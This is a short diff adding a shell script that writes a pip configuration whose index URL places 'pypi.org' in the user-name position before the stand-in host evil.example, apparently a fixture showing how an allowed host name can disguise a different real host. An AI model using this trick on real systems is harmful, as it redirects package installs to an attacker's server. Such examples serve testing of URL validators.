@@ -1,0 +1,8 @@
+#!/bin/sh
+# The allowed host stands where a user name belongs.
+set -e
+mkdir -p /etc
+cat >/etc/pip.conf <<'EOF'
+[global]
+index-url = https://pypi.org@evil.example/simple
+EOF
